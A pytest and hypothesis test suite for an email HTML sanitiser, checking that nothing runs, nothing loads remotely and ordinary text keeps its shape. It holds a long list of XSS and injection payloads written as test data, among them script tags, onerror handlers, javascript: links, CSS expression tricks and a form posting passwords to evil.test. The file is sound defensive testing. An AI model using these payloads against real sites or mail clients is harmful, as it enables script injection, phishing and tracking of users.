"""A mail's HTML may be shown in a browser: nothing runs, nothing is loaded, words stay."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from maildesk.mail.text.markup import read_tokens
from maildesk.mail.text.sanitise import DEEPEST, PROPERTIES, TAGS, _balance, sanitise

CIDS = {"logo@corp.test": "/files/1", "pic 2@corp.test": "data:image/png;base64,AAAA"}
LINKS = ("http://", "https://", "mailto:", "tel:")
FRAME = {"html", "head", "body"}
# What belongs to us: the parser of the test adds the frame, our own pass the note.
ATTRIBUTES = {
    *("title", "dir", "lang", "align", "valign", "style", "href", "src", "alt", "width", "height"),
    *("border", "cellpadding", "cellspacing", "bgcolor", "colspan", "rowspan", "nowrap", "span"),
    *("color", "face", "size", "type", "start", "value", "open", "class", "rel", "target"),
}


def hold_harmless(html: str) -> None:
    """As a browser's parser reads it: known tags, known attributes, no address but allowed ones."""
    root = LexborHTMLParser(html).root
    assert root is not None
    for node in root.traverse(include_text=False):
        if node.tag == "-comment":
            raise AssertionError("a comment is left")
        assert node.tag in TAGS | FRAME, node.tag
        for name, given_value in node.attributes.items():
            value = given_value or ""
            assert name in ATTRIBUTES, name
            if name == "src":
                assert value in CIDS.values()
            elif name == "href":
                assert value.lower().startswith(LINKS)
            elif name == "class":
                assert (node.tag, value) == ("span", "blocked-image")
            elif name == "style":
                hold_style(value)
        if node.tag == "a":
            assert node.attributes.get("target") == "_blank"
            assert node.attributes.get("rel") == "noopener noreferrer nofollow"


def hold_style(style: str) -> None:
    assert not re.search(r"url|expression|import|@|\\|/\*|javascript|[<>{}]", style, re.IGNORECASE)
    for declaration in filter(None, style.split(";")):
        assert declaration.partition(":")[0].strip() in PROPERTIES


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror =alert(1)//>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.test/p.gif>",
    "<img src=//evil.test/p.gif>",
    "<img srcset='https://evil.test/p.gif 1x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.test/p><img src=x></picture>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.test'>x</a>",
    "<a href='/t/act'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href=https://ok.test target=_self rel=opener onclick=alert(1)>x</a>",
    "<a href=https://ok.test ping=https://evil.test download>x</a>",
    "<svg onload=alert(1)><g/onload=alert(2)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=1>'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.test/x.swf>",
    "<applet code=x archive=https://evil.test></applet>",
    "<form action=https://evil.test><input name=password><button>ok</button></form>",
    "<input type=image src=https://evil.test onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<video src=https://evil.test poster=https://evil.test onloadstart=alert(1)></video>",
    "<audio src=https://evil.test></audio>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<base href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>body{background:url(https://evil.test)}",
    "<body onload=alert(1) background=https://evil.test>",
    "<table background=https://evil.test><td background=https://evil.test>x</table>",
    "<div style='background:url(https://evil.test)'>x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='background:\\75rl(https://evil.test)'>x</div>",
    "<div style='color:red;background:u/**/rl(x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:exp/**/ression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#a)'>x</div>",
    "<div style='color:red;}@import url(x);{'>x</div>",
    "<div style='content:attr(x)'>x</div>",
    "<div style='background:image-set(\"https://evil.test\" 1x)'>x</div>",
    "<div style='color:var(--x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9'>x</div>",
    "<div style='margin-top:-900px'>x</div>",
    "<div style=\"font-family:'x';color:red\" onmouseover=alert(1)>x</div>",
    "<p id=admin name=cookie class=btn>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x><script>alert(1)</script></x>",
    "<div title='a\"onmouseover=alert(1) x=\"'>x</div>",
    "<<script>alert(1)//<</script>",
    "<b <script>alert(1)</script>0",
    "<p/onclick=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<table><td><form><input></form></td><script>alert(1)</script></table>",
    "<select><option><script>alert(1)</script></option></select>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=https://evil.test></portal>",
    "<a href=https://ok.test>a<a href=javascript:alert(1)>b",
]


@pytest.mark.parametrize("html", VECTORS)
def test_nothing_runs_and_nothing_is_loaded(html: str) -> None:
    said = sanitise(html, CIDS)
    hold_harmless(said)
    assert "<script" not in said.lower()


_PIECES = st.sampled_from(
    [
        *("<", ">", "</", "/>", "<!--", "-->", '"', "'", "=", "&", "&#x6a;", "\0", "\n", " ", "x"),
        *("<b>", "</b>", "<p>", "</p>", "<a href='", "<a href=http://a.test>", "</a>", "<table>"),
        *("<tr>", "<td>", "</table>", "<img src=cid:logo@corp.test>", "<img src=", "onerror=1"),
        *("<svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<title>", "<select>"),
        *("style='color:red'", 'style="background:url(//e)"', "javascript:", "<li>", "<ul>", "<i>"),
        *("<iframe>", "</iframe>", "<xmp>", "<noscript>", "<textarea>", "<template>", "<col>"),
        *("<caption>", "<colgroup>", "<h1>", "<hr>", "<ruby>", "<rt>", "<details open>", "张敏"),
    ]
)


@given(st.lists(_PIECES | st.text(max_size=4), max_size=60).map("".join))
def test_any_markup_is_harmless_and_nothing_is_raised(html: str) -> None:
    hold_harmless(sanitise(html, CIDS))


@given(st.text(alphabet=st.characters(exclude_characters="<&\r\0", exclude_categories=["Cs"])))
def test_words_without_markup_stay_as_they_are(words: str) -> None:
    body = LexborHTMLParser(sanitise(words, {})).body
    # A parser drops the blanks before the first word.
    assert (body.text() if body else "").strip() == words.strip()


@given(st.lists(_PIECES, max_size=80).map("".join))
def test_every_tag_that_is_opened_is_closed(html: str) -> None:
    said = _balance(html, CIDS)
    opened: list[str] = []
    for token in read_tokens(said):
        if isinstance(token, str):
            continue
        if token.name in ("br", "hr", "img", "wbr", "col"):
            continue
        if isinstance(token, tuple) and len(token) == 2:
            opened.append(token.name)
        else:
            assert opened.pop() == token.name
    assert opened == []


def test_pictures_are_found_by_their_content_id_alone() -> None:
    assert sanitise("<img src='cid:logo@corp.test' alt=x>", CIDS) == '<img src="/files/1" alt="x">'
    assert 'src="data:image/png' in sanitise("<img src='CID:pic%202@corp.test'>", CIDS)
    assert "blocked-image" in sanitise("<img src='cid:other@corp.test'>", CIDS)


@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("https://Track.Example/p.gif?u=1", "track.example"),
        ("//a.example:8080/x", "a.example"),
        ("https://user:pw@a.example/x", "a.example"),
        ("http:\\\\a.example\\x", "a.example"),
        ("data:image/png;base64,AAAA", "data:"),
        ("images/logo.png", "?"),
        ("", "?"),
    ],
)
def test_a_picture_that_is_not_loaded_names_whom_it_would_have_asked(
    source: str, host: str
) -> None:
    said = sanitise(f"<img src='{source}' alt='我们的<b>标志'>", CIDS)
    assert said == (
        f'<span class="blocked-image" title="{host}">'
        f"[图片 image: {host}: 我们的&lt;b&gt;标志]</span>"
    )


@pytest.mark.parametrize(
    ("html", "said"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c"),
        (
            "<table><td>a<td>b<tr>c<td>d</table>e",
            "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></tbody>"
            "</table>e",
        ),
        ("<td>a</td>", "a"),
        ("<o:p>&nbsp;</o:p>x<!-- y -->", "&nbsp;x"),
        ("<style>p{}</style><title>t</title>x", "x"),
        ("<font color=#ff0000 face='微软雅黑'>x</font>",
         '<font color="#ff0000" face="微软雅黑">x</font>'),
        ("<p style='color:#333;position:fixed'>x", '<p style="color:#333">x</p>'),
        ("a < b && c", "a &lt; b &amp;&amp; c"),
        ("<a name=top>x</a>", "x"),
    ],
)  # fmt: skip
def test_what_people_write_stays_in_its_shape(html: str, said: str) -> None:
    assert sanitise(html, {}) == said


_MB = 1_000_000


@pytest.mark.parametrize(
    "piece",
    [
        *("<b>", "<", "&#x", "&amp;", "<p><b></p>", '<a x="', "<a x='\"", "<!--", "<!", "</b "),
        *("<script>", "<iframe>", "<table>", "<table><b>x</b>", "<td>", "<table><td>", "<tr>"),
        *("<ul><li>", "<dl><dt>", "<a href=//x>", "<a href=http://x>x<p>", "<img src=//a>", "</p>"),
        *("<b></b>", "<b><i></b></i>", "<p style='color:red'>", "<b><i><u><s><p></b></i></u></s>"),
        *("<font color=red>x<p>", "<ruby><rt>", "<h1><h2>", "<table><colgroup>x", "a=b "),
    ],
)
def test_a_megabyte_of_anything_takes_less_than_two_seconds(piece: str) -> None:
    half = piece * (_MB // 2 // len(piece))
    html = half + "<p><table><tr><td>" + "<i>" * 90 + half
    # A busy machine may be slow once.
    assert any(measure(html) < 2 for _ in range(2))


def measure(html: str) -> float:
    """Seconds of computing."""
    began = time.process_time()
    sanitise(html, {})
    return time.process_time() - began


def test_nothing_lies_deeper_than_a_browser_likes() -> None:
    said = sanitise("<div>" * 10_000 + "the words", {})
    assert said.count("<div>") == DEEPEST
    assert "the words" in said
